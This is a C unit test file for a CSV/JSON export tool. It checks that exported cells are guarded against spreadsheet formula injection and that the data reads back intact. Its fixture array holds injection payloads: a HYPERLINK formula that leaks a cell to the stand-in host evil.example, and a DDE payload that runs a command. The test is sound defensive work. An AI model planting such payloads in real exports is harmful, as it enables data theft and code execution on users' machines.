/*
 * Output is data, never commands: CSV that a spreadsheet cannot run, and
 * a rejects file that reads back as it was written.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "callq/csvin.h"
#include "callq/rejects.h"
#include "callq/table.h"
#include "fixture.h"

/* What a hostile lead list holds, and what must stay as it is. */
static const char *const hostile[] = {
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	"+cmd|' /C calc'!A0",
	"@SUM(A1)",
	"-2+3",
	"\tTab first",
	"\rCR first",
	"'=already quoted",
	"-2.5",
	"+12127360101",
	"-",
	"+1 212-736-0101",
	"Plain, with a comma",
};
#define NHOSTILE (sizeof hostile / sizeof hostile[0])

static const char *const guarded_csv =
    "value\r\n"
    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\r\n"
    "'+cmd|' /C calc'!A0\r\n"
    "'@SUM(A1)\r\n"
    "'-2+3\r\n"
    "\"'\tTab first\"\r\n"
    "\"'\rCR first\"\r\n"
    "''=already quoted\r\n"
    "-2.5\r\n"
    "+12127360101\r\n"
    "-\r\n"
    "'+1 212-736-0101\r\n"
    "\"Plain, with a comma\"\r\n";

static const struct column value_col[] = { { "value", 0 } };

/* The values as one list in format, as callq prints it. */
static char *
list_of(enum format format, const char *const *values, size_t n)
{
	char *buf = NULL;
	size_t len = 0, i;
	FILE *f = open_memstream(&buf, &len);
	struct table *t;

	assert_non_null(f);
	t = table_begin(f, format, value_col, 1);
	assert_non_null(t);
	for (i = 0; i < n; i++)
		assert_int_equal(table_row(t, &values[i]), 0);
	assert_int_equal(table_end(t), 0);
	fclose(f);
	return buf;
}

static void
test_csv_guards_formulas(void **state)
{
	char *csv;

	(void)state;
	csv = list_of(FORMAT_CSV, hostile, NHOSTILE);
	assert_string_equal(csv, guarded_csv);
	free(csv);
}

static void
test_json_stays_exact(void **state)
{
	char *json;

	(void)state;
	json = list_of(FORMAT_JSON, hostile, 4);
	assert_string_equal(json, "[\n"
	    "  {\"value\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
	    "\\\"Click\\\")\"},\n"
	    "  {\"value\": \"+cmd|' /C calc'!A0\"},\n"
	    "  {\"value\": \"@SUM(A1)\"},\n"
	    "  {\"value\": \"-2+3\"}\n]\n");
	free(json);
}

/* Reads path's records back: field 0 of each after the header. */
struct readback {
	char  *field[NHOSTILE + 1];
	size_t n;
};

static int
take_first(const struct csvin_record *r, void *arg)
{
	struct readback *rb = arg;

	if (r->number > 1 && rb->n < NHOSTILE)
		rb->field[rb->n++] = strdup(r->field[0]);
	return 0;
}

static void
read_back(const char *path, struct readback *rb)
{
	struct err err = { 0 };
	int fd = open(path, O_RDONLY);

	assert_true(fd >= 0);
	rb->n = 0;
	if (csvin_read(fd, path, take_first, rb, &err) != 0)
		fail_msg("%s", err.msg);
	close(fd);
}

static void
check_round_trip(struct readback *rb)
{
	size_t i;

	assert_int_equal(rb->n, NHOSTILE);
	for (i = 0; i < rb->n; i++) {
		assert_string_equal(rb->field[i], hostile[i]);
		free(rb->field[i]);
	}
}

static void
test_list_reads_back(void **state)
{
	char path[] = "/tmp/callq-csv-XXXXXX";
	struct readback rb;
	char *csv = list_of(FORMAT_CSV, hostile, NHOSTILE);
	int fd = mkstemp(path);

	(void)state;
	assert_true(fd >= 0);
	assert_int_equal(write(fd, csv, strlen(csv)), (ssize_t)strlen(csv));
	close(fd);
	free(csv);
	read_back(path, &rb);
	unlink(path);
	check_round_trip(&rb);
}

static void
test_rejects_read_back(void **state)
{
	char dir[] = "/tmp/callq-rejects-XXXXXX", path[64], *row[1];
	char *const header[] = { "value" };
	const size_t header_len[] = { 5 };
	struct rejects *r;
	struct err err = { 0 };
	struct readback rb;
	char *text;
	size_t i, len;
	FILE *f;

	(void)state;
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof path, "%s/x.rejects.csv", dir);
	assert_int_equal(rejects_open(&r, path, 0, header, header_len, 1,
	    &err), 0);
	for (i = 0; i < NHOSTILE; i++) {
		row[0] = (char *)hostile[i];
		len = strlen(hostile[i]);
		assert_int_equal(rejects_write(r, row, &len, 1, "-1 <= 0",
		    (int64_t)i + 2, &err), 0);
	}
	rejects_close(r);
	f = fopen(path, "r");
	assert_non_null(f);
	text = calloc(1, 4096);
	assert_true(fread(text, 1, 4095, f) > 0);
	fclose(f);
	/* The reason is text too: "-1 <= 0" would be a formula. */
	assert_non_null(strstr(text, "'=HYPERLINK(\"\"http"));
	assert_non_null(strstr(text, "\r\n'+cmd|' /C calc'!A0,'-1 <= 0,3\r\n"));
	free(text);
	read_back(path, &rb);
	unlink(path);
	rmdir(dir);
	check_round_trip(&rb);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_csv_guards_formulas),
		cmocka_unit_test(test_json_stays_exact),
		cmocka_unit_test(test_list_reads_back),
		cmocka_unit_test(test_rejects_read_back),
	};

	return cmocka_run_group_tests_name("text", tests, NULL, NULL);
}
